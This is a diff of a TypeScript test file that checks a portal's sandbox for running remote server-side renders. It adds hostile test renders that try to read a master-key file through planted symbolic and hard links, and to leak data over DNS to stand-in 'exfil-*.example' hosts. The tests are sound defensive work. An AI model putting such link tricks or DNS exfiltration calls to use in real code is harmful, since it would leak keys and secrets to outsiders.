@@ -1,11 +1,17 @@
 // The first paint of a remote's public page: the server composes the remote's own static
 // render (its release's ssr/render.cjs) into the host's page, runs that code in a sandboxed process
-// that reaches nothing of the server's (environment, files, keys, network), serves the placeholder
-// when it fails or hangs, follows a switch of release, and never serves ssr/ as files.
+// that reaches nothing of the server's (environment, files, keys, network, name resolution) on the
+// portal's copy of the release (never the team's folder), serves the placeholder when it fails or
+// hangs or the namespace layer it needs is missing, follows a switch of release, and never serves
+// ssr/ as files.
 import { linkSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { createSocket, type Socket as UdpSocket } from 'node:dgram';
 import { createServer, type Server, type Socket } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import type { FastifyBaseLogger } from 'fastify';
+import { loadSettings } from '../src/config/settings';
+import { createRemoteRenderer } from '../src/hosting/remote-render';
 import { harness, type Harness } from './helpers';
 
 let h: Harness;
@@ -272,26 +278,164 @@ describe('a hostile release: its static render reaches nothing of the server, an
     for (const value of environ) expect(res.body).not.toContain(value);
   });
 
+  // reads its own folder's keys.json and message.txt at each render: whatever the folder holds then
+  const plantedRender = `
+const fs = require('node:fs');
+const path = require('node:path');
+const read = (file) => { try { return fs.readFileSync(path.join(__dirname, file), 'utf8'); } catch (e) { return 'denied ' + e.code; } };
+exports.render = ({ module }) => module !== 'support/ContactPage' ? null :
+  '<h1>Contact Us</h1><p data-message>' + read('message.txt') + '</p><p data-keys>' + read('keys.json').replace(/</g, '&lt;') + '</p>';`;
+
   test.each([
-    ['a symbolic link', (target: string, link: string) => symlinkSync(target, link)],
-    ['a hard link', (target: string, link: string) => linkSync(target, link)],
+    ['a symbolic link', 'before', (target: string, link: string) => symlinkSync(target, link)],
+    ['a hard link', 'before', (target: string, link: string) => linkSync(target, link)],
+    ['a symbolic link', 'after', (target: string, link: string) => symlinkSync(target, link)],
+    ['a hard link', 'after', (target: string, link: string) => linkSync(target, link)],
   ])(
-    'its ssr/ gains %s to the keys file after publish: not run, the page is served with the placeholder',
-    async (_kind, plant) => {
+    'the team’s ssr/ gains %s to the keys file and a changed file after publish, %s a first render: the page renders the copy made at publish',
+    async (kind, when, plant) => {
       const keysFile = join(h.dataDir, 'dev-keys.json');
       writeFileSync(keysFile, JSON.stringify({ masterKey: 'c0ffee00'.repeat(8) }), { mode: 0o600 });
-      const version = `6.6.7+link${_kind.length}`;
-      const dir = supportRelease(
-        version,
-        hostileRender(join(root, `support-${version}`, 'ssr', 'keys.json'), port),
-      );
+      const version = `6.6.7+${kind.length}${when}`;
+      const dir = supportRelease(version, plantedRender);
+      writeFileSync(join(dir, 'ssr', 'message.txt'), 'as published');
       await publishAndSwitch(dir, version);
+      if (when === 'after') {
+        const first = await page(`/contact-us?planted=${version}-first`);
+        expect(first.body).toContain('<p data-message>as published</p>');
+      }
       plant(keysFile, join(dir, 'ssr', 'keys.json'));
-      const res = await page(`/contact-us?link=${_kind.length}`);
+      writeFileSync(join(dir, 'ssr', 'message.txt'), 'changed after publish');
+      const res = await page(`/contact-us?planted=${version}`);
       expect(res.statusCode).toBe(200);
-      expect(res.body).toContain('<div role="status">Loading</div>');
+      expect(res.body).toContain('<p data-message>as published</p>');
+      expect(res.body).toContain('<p data-keys>denied ENOENT</p>');
       expect(res.body).not.toContain('c0ffee00');
-      expect(warnings().at(-1)).toContain('its folder holds links (keys.json): not run');
+      expect(res.body).not.toContain('changed after publish');
     },
   );
+});
+
+describe('a hostile release without the namespace layer: the sealing alone keeps its DNS queries in', () => {
+  let degraded: Harness;
+  let udp: UdpSocket;
+  let port = 0;
+  const queries: Buffer[] = [];
+  beforeAll(async () => {
+    udp = createSocket('udp4', (message) => queries.push(message));
+    await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
+    port = udp.address().port;
+    degraded = await harness({ settings: { appsRoot: root, renderSandbox: 'degraded' } });
+  });
+  afterAll(async () => {
+    await degraded.close();
+    await new Promise<void>((r) => udp.close(() => r()));
+  });
+
+  // every way a render could send a name out: c-ares Resolvers (callback and promises, pointed at
+  // the test's listener), the default resolver, lookup (getaddrinfo) and a connection by name
+  const dnsRender = (server: string) => `
+const dns = require('node:dns');
+const net = require('node:net');
+const server = ${JSON.stringify(server)};
+const attempt = async (send) => {
+  try { await send(); return 'answered'; } catch (e) { return 'refused ' + e.code; }
+};
+exports.render = async ({ module }) => {
+  if (module !== 'support/ContactPage') return null;
+  const got = {
+    resolver: await attempt(() => new Promise((resolve, reject) => {
+      const r = new dns.Resolver({ timeout: 200, tries: 1 });
+      r.setServers([server]);
+      r.resolveTxt('exfil-resolver.example', (e) => (e ? reject(e) : resolve()));
+    })),
+    promises: await attempt(async () => {
+      const r = new (require('node:dns/promises').Resolver)({ timeout: 200, tries: 1 });
+      r.setServers([server]);
+      await r.resolveTxt('exfil-promises.example');
+    }),
+    channel: await attempt(() => new Promise((resolve, reject) => {
+      try { dns.setServers([server]); } catch {}
+      dns.resolve4('exfil-default.example', (e) => (e ? reject(e) : resolve()));
+    })),
+    lookup: await attempt(() => dns.promises.lookup('exfil-lookup.example')),
+    connect: await attempt(() => new Promise((resolve, reject) => {
+      const s = net.connect(80, 'exfil-connect.example', resolve);
+      s.on('error', reject);
+    })),
+  };
+  return '<h1>Contact Us</h1><pre data-got>' + JSON.stringify(got) + '</pre>';
+};`;
+
+  test('new dns.Resolver(); setServers([the test’s listener]); resolveTxt(…): no query arrives, every way to resolve a name is refused', async () => {
+    const version = '6.6.8+dns';
+    const dir = supportRelease(version, dnsRender(`127.0.0.1:${port}`));
+    expect(
+      (await degraded.admin('POST', '/remotes/publish', { remote: 'support', source: dir })).statusCode,
+    ).toBe(200);
+    expect((await degraded.admin('POST', '/remotes/switch', { remote: 'support', version })).statusCode).toBe(
+      200,
+    );
+    const res = await degraded.app.inject({ method: 'GET', url: '/contact-us?dns=1' });
+    expect(res.statusCode).toBe(200);
+    const shown = /<pre data-got>(.*?)<\/pre>/s.exec(res.body)?.[1];
+    expect(shown).toBeDefined();
+    const got = JSON.parse(shown!.replace(/&quot;/g, '"')) as Record<string, string>;
+    for (const [way, outcome] of Object.entries(got))
+      expect([way, outcome]).toEqual([way, 'refused ERR_ACCESS_DENIED']);
+    // a query sent late still arrives within this wait
+    await new Promise((r) => setTimeout(r, 300));
+    expect(queries.map((q) => q.toString('latin1'))).toEqual([]);
+    expect(degraded.logs.join('')).toContain('without namespaces');
+  });
+});
+
+describe('the namespace layer (RENDER_SANDBOX)', () => {
+  const logged: string[] = [];
+  const log = {
+    info: (_o: object, message: string) => logged.push(`info ${message}`),
+    warn: (_o: object, message: string) => logged.push(`warn ${message}`),
+    error: (_o: object, message: string) => logged.push(`error ${message}`),
+  } as unknown as FastifyBaseLogger;
+  const renderer = (sandbox: 'namespaces' | 'auto') =>
+    createRemoteRenderer({
+      ssrDirOf: () => join(root, 'mfe-support', 'dist', 'ssr'),
+      // what the renders here read of it
+      config: { program: h.app.ctx.program } as never,
+      log,
+      sandbox,
+      namespaces: () => false,
+    });
+
+  test('required and missing (production’s default): the render process is not started, the area keeps its placeholder, the refusal logged', async () => {
+    logged.length = 0;
+    const required = renderer('namespaces');
+    try {
+      const answer = await required.render('support/ContactPage', {}, 'http://portal.test/contact-us');
+      expect(answer).toEqual({ failed: false });
+      expect(logged).toEqual([
+        expect.stringMatching(/^error static renders of remotes not run: this machine gives no namespaces/),
+      ]);
+    } finally {
+      await required.close();
+    }
+    const allowed = renderer('auto');
+    try {
+      const answer = await allowed.render('support/ContactPage', {}, 'http://portal.test/contact-us');
+      expect(answer).toMatchObject({ html: expect.stringContaining('checkout build') });
+    } finally {
+      await allowed.close();
+    }
+  });
+
+  test('production requires the namespace layer unless RENDER_SANDBOX says otherwise; development runs without it where there is none', () => {
+    expect(loadSettings({ PORTAL_MODE: 'production' }).renderSandbox).toBe('namespaces');
+    expect(loadSettings({ PORTAL_MODE: 'production', RENDER_SANDBOX: 'degraded' }).renderSandbox).toBe(
+      'degraded',
+    );
+    expect(loadSettings({ PORTAL_MODE: 'development' }).renderSandbox).toBe('auto');
+    expect(() => loadSettings({ PORTAL_MODE: 'production', RENDER_SANDBOX: 'off' })).toThrow(
+      'RENDER_SANDBOX must be namespaces, auto or degraded',
+    );
+  });
 });
